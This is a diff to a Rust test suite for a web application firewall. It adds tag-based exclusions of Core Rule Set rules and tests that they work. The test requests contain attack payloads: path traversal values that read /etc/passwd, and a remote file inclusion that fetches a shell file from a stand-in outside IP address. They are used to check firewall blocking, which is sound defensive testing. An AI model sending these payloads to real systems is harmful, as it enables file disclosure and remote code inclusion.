@@ -122,7 +122,9 @@ async fn exclusions_and_detect_mode_do_what_they_say() {
     );
     let rules = CRS3.replacen(", ", &format!(", \"{plugin}\", "), 1);
     let extra = DETECT.replace("RULES", CRS3)
-        + &format!("[waf.excluding]\nrules = {rules}\naudit_log = \"{audit}\"\nexclusions = [{{ rule = 942100, path = \"/search\" }}, {{ rule = \"941100-941199\", remove = true }}, {{ rule = 930120, target = \"ARGS:file\" }}, {{ rule = 932160, target = \"ARGS:file\" }}]\n");
+        + &format!("[waf.excluding]\nrules = {rules}\naudit_log = \"{audit}\"\nexclusions = [{{ rule = 942100, path = \"/search\" }}, {{ rule = \"941100-941199\", remove = true }}, {{ rule = 930120, target = \"ARGS:file\" }}, {{ rule = 932160, target = \"ARGS:file\" }}, \
+         {{ tag = \"attack-rfi\" }}, {{ tag = \"attack-lfi\", path = \"/docs\", target = \"ARGS:path\" }}, \
+         {{ tag = \"attack-rce\", path = \"/docs\", target = \"ARGS:path\" }}]\n");
     let fc = start(&config(&origin, admin, &extra).replace("waf = \"crs3\"", "waf = \"excluding\""));
     let sqli = |target: &'static str| Case { name: "sqli", method: "GET", target, body: None, headers: &[] };
     // 942100 (libinjection) is the only PL1 rule this payload trips: off on /search only.
@@ -161,6 +163,13 @@ async fn exclusions_and_detect_mode_do_what_they_say() {
     let lfi_in_path = sqli("/dl?path=/etc/passwd");
     assert_eq!(through(&fc, &origin, &lfi_in_file, "crs3.test").await.0, 200);
     assert_eq!(through(&fc, &origin, &lfi_in_path, "crs3.test").await.0, 403);
+    // By tag: CRS's RFI rules everywhere; the LFI and RCE rules for one argument on /docs
+    // (the same argument elsewhere, and another one there, are still inspected).
+    let rfi = sqli("/page?include=http://198.51.100.7/shell.txt?");
+    assert_eq!(through(&fc, &origin, &rfi, "crs3.test").await, (200, true), "attack-rfi excluded");
+    for (target, status) in [("/docs/a?path=/etc/passwd", 200), ("/docs/a?file2=/etc/passwd", 403)] {
+        assert_eq!(through(&fc, &origin, &sqli(target), "crs3.test").await.0, status, "{target}");
+    }
     // detect: everything passes, what would have been blocked is recorded.
     for case in ATTACKS {
         let (status, reached) = through(&fc, &origin, case, "detect.test").await;
